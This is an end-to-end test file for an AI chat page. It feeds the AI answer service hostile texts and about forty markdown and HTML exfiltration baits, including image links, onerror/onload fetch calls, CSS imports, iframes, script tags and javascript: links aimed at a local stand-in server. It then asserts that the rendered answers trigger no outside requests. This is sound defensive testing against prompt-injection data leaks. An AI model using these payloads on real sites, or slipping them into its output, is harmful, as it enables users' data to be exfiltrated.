/**
 * Answers that a stranger's text ended up in: whatever stands in them, the page that shows them asks nobody for anything but what it
 * asks with harmless answers. The browser's own protection (CSP) is off, so that it is the page that keeps to it.
 */
import { globSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { addressesOf } from '../../src/api/contract.ts'
import { callEntries } from '../../src/api/index.ts'
import { STREAM_PATH } from '../../src/api/intelligence/aiAnswers/streamed.ts'
import { hostileTexts } from '../intelligence/guard/hostileTexts.ts'
import { beginAnew, PASSWORD, signIn } from './people.ts'

/** Stands in every address of the answers. */
const MARK = 'leak-7315'
/** The demonstration asks its service five things at once, at most. */
const CONVERSATIONS = 4
/** A busy machine. */
const SLOW = { timeout: 90_000 }

/** What makes a browser ask for something, were it let. {E}: a server elsewhere; {H}: this one; {M}: the mark. */
const baits: readonly string[] = [
  '![海报]({E}/a.png?{M})',
  '![海报](/api/article/list?{M})',
  '![海报]({H}/files/ai/1.png?{M})',
  '![海报][p]\n\n[p]: {E}/b.png?{M}',
  '![海报][p]\n\n[p]: /static/img/1.png?{M} "题"',
  '![p]\n\n[p]: <{E}/c.png?{M}>',
  '[![海报]({E}/d.png?{M})]({E}/e?{M})',
  '![海报](data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg"><image href="{E}/f.png?{M}"/></svg>)',
  '![海报](//{A}/g.png?{M})',
  '<img src="{E}/h.png?{M}" srcset="{E}/i.png?{M} 2x">',
  '<img src=x onerror="fetch(\'{E}/j?{M}\')">',
  '<picture><source srcset="{E}/k.webp?{M}"><img></picture>',
  '<svg><image href="{E}/l.png?{M}"/><use href="{E}/m.svg?{M}#x"/></svg>',
  '<svg onload="fetch(\'/api/article/list?{M}\')"></svg>',
  '<style>@import url("{E}/n.css?{M}"); body{background:url({E}/o.png?{M})}</style>',
  '<div style="background:url({E}/p.png?{M})">块</div>',
  '<link rel="stylesheet" href="{E}/q.css?{M}"><link rel="preconnect" href="{E}/?{M}"><link rel="prefetch" href="{E}/r?{M}">',
  '<iframe src="{E}/s?{M}" srcdoc="<img src={E}/t.png?{M}>"></iframe>',
  '<script src="{E}/u.js?{M}"></script>',
  '<video src="{E}/v.mp4?{M}" poster="{E}/w.png?{M}" autoplay></video><audio src="{E}/x.mp3?{M}" autoplay></audio>',
  '<object data="{E}/y?{M}"></object><embed src="{E}/z?{M}">',
  '<form action="{E}/aa?{M}"><input type="image" src="{E}/ab.png?{M}"></form>',
  '<meta http-equiv="refresh" content="0;url={E}/ac?{M}"><base href="{E}/?{M}">',
  '[请看]({E}/ad?{M}) <{E}/ae?{M}> {E}/af?{M}',
  '[请看](javascript:fetch("{E}/ag?{M}"))',
  '[请看](data:text/html,<img src="{E}/ah.png?{M}">)',
  '<a href="{E}/ai?{M}" ping="{E}/aj?{M}">链接</a>',
  '| 表 |\n|---|\n| ![x]({E}/ak.png?{M}) |',
  '> ![x]({E}/al.png?{M})\n\n- ![x]({E}/am.png?{M})\n\n1. <img src="{E}/an.png?{M}">',
  '# ![x]({E}/ao.png?{M})\n\n**![x]({E}/ap.png?{M})** `![x]({E}/aq.png?{M})`',
  '```html\n<img src="{E}/ar.png?{M}">\n```',
  '<table background="{E}/as.png?{M}"><tr><td>格</td></tr></table>',
  '&lt;img src="{E}/at.png?{M}"&gt; &#60;img src="{E}/au.png?{M}"&#62;',
  '<math href="{E}/av?{M}"></math><noscript><img src="{E}/aw.png?{M}"></noscript>',
  '$\\includegraphics{{E}/ax.png?{M}}$ [[{E}/ay.png?{M}]] ![[az.png?{M}]]',
  '@import "{E}/ba.css?{M}"; :root{--a:url({E}/bb.png?{M})}',
  '![未完]({E}/bc.png?{M}',
  '![x]({E}/bd.png?{M} "题)\n<img src="{E}/be.png?{M}',
  '![x](  {E}/bf.png?{M}  )![x](ht\ntps://{A}/bg.png?{M})',
  '<!-- <img src="{E}/bh.png?{M}"> --><![CDATA[<img src="{E}/bi.png?{M}">]]>',
]

let elsewhere: Server
let asked: string[] = []
let place = ''
beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'image/svg+xml' })
    response.end('<svg xmlns="http://www.w3.org/2000/svg"/>')
  })
  await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done))
  place = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
})
afterAll(() => {
  elsewhere.closeAllConnections()
  elsewhere.close()
})

/** Which of the paths of this server a page that shows answers may ask for. */
const known = new Set([
  ...callEntries.flatMap(({ spec, of }) => addressesOf(of, spec).map((one) => `${one.method} ${one.path}`)),
  ...globSync('**/*', { cwd: path.join(import.meta.dirname, '../../dist') }).map(
    (file) => `GET /${file.replaceAll('\\', '/')}`,
  ),
  `GET ${STREAM_PATH}`,
  'GET /api/push/stream',
  'GET /Ai/AiChat',
])

/** Calls in the editor's name, beside the page. */
async function caller() {
  const base = inject('baseUrl')
  const send = async (address: string, Token: string, body: object) => {
    const headers = { 'Content-Type': 'application/json', Token }
    const answer = await fetch(base + address, { method: 'POST', headers, body: JSON.stringify(body) })
    return (await answer.json()) as { Errors: unknown; Data: Record<string, never> | null }
  }
  const { Data } = await send('/api/auth/UserLogin', '', { UserName: 'editor', PassWord: PASSWORD })
  const token = String(Data?.['AccessToken'])
  return {
    ask: (body: object) => send('/api/ai/answer/ask', token, body),
    get: async (ID: number) => {
      const answer = await fetch(`${base}/api/ai/answer/get?ID=${ID}`, { headers: { Token: token } })
      return ((await answer.json()) as { Data: { State: string; Text: string } }).Data
    },
  }
}

test('of sixty answers that hostile texts stand in, nothing loads, and nobody hears of what is shown', async () => {
  await beginAnew('editor')
  const editor = await signIn('editor', '/Ai/AiChat', { bypassesCsp: true })
  const { page } = editor
  const requests: { method: string; url: URL; type: string }[] = []
  const sockets: string[] = []
  page.context().on('request', (one) => {
    requests.push({ method: one.method(), url: new URL(one.url()), type: one.resourceType() })
  })
  page.on('websocket', (one) => sockets.push(one.url()))
  const pages: string[] = []
  page.context().on('page', (one) => pages.push(one.url()))

  const base = inject('baseUrl')
  const texts = hostileTexts.map(([, template], at) => {
    const bait = baits[at % baits.length]!.replaceAll('{E}', `http://${place}`)
      .replaceAll('{H}', base)
      .replaceAll('{A}', place)
      .replaceAll('{M}', MARK)
    return `复述：${template.replaceAll(/\{[ABUS]\}/g, '1')}\n\n${bait}`
  })
  const { ask, get } = await caller()
  const begun = await Promise.all(
    Array.from({ length: CONVERSATIONS }, async (_, nth) => {
      let ConversationID: number | undefined
      for (let at = nth; at < texts.length; at += CONVERSATIONS) {
        const { Data, Errors } = await ask({ Text: texts[at], Purpose: 'dialogue', ConversationID, Context: [] })
        expect(Errors).toBeNull()
        ConversationID = Number(Data?.['ConversationID'])
        // The page shows the first of them from the beginning, half answers, too.
        if (at === 0) await page.goto(`${base}/Ai/AiChat?ID=${ConversationID}`)
        await expect.poll(async () => (await get(Number(Data?.['AnswerID']))).State, SLOW).toBe('done')
        expect((await get(Number(Data?.['AnswerID']))).Text).toContain(MARK)
      }
      return ConversationID!
    }),
  )

  const feed = page.getByRole('feed', { name: '对话记录' })
  const shown: string[] = []
  for (const ID of begun) {
    await page.goto(`${base}/Ai/AiChat?ID=${ID}`)
    const answers = feed.locator('.cd-ai-answer[data-state=done]')
    await expect.poll(() => answers.count(), SLOW).toBe(texts.length / CONVERSATIONS)
    shown.push(...(await answers.allInnerTexts()))
    // Each of them seen, and pointed at: what loads when it comes into sight, or is pointed at, loads then.
    for (const answer of await answers.all()) {
      await answer.scrollIntoViewIfNeeded()
      for (const link of await answer.locator('a').all()) await link.hover()
    }
  }
  expect(shown).toHaveLength(hostileTexts.length)
  // Addresses are read as text; only what a definition says of a picture stands nowhere.
  expect(shown.filter((text) => text.includes(MARK)).length).toBeGreaterThan(50)
  // Why it was answered so shows the very texts again.
  await expect.poll(editor.focus, SLOW).toBe('提问')
  await editor.press('Escape')
  await editor.press('w')
  await editor.sees('发出去的全部文字')
  // Whatever was to load has been asked for by the time the page has asked again.
  await page.reload()
  await expect.poll(() => feed.locator('.cd-ai-answer').count(), SLOW).toBe(texts.length / CONVERSATIONS)

  expect(asked).toEqual([])
  expect([...sockets, ...pages]).toEqual([])
  const away = requests.filter(({ url }) => url.origin !== base && !['data:', 'blob:'].includes(url.protocol))
  expect(away.map(({ url }) => url.href)).toEqual([])
  const strange = requests.filter(
    ({ method, url }) => url.origin === base && (!known.has(`${method} ${url.pathname}`) || url.href.includes(MARK)),
  )
  expect(strange.map(({ method, url }) => `${method} ${url.pathname}${url.search}`)).toEqual([])
  const drawn = requests.filter(({ type }) => ['image', 'media', 'font', 'websocket'].includes(type))
  expect(drawn.map(({ url }) => url.pathname).filter((one) => one !== '/favicon.svg')).toEqual([])
  expect(requests.length).toBeGreaterThan(CONVERSATIONS)
  expect(new URL(page.url()).pathname).toBe('/Ai/AiChat')
  expect(editor.complaints).toEqual([])
  await editor.leave()
})
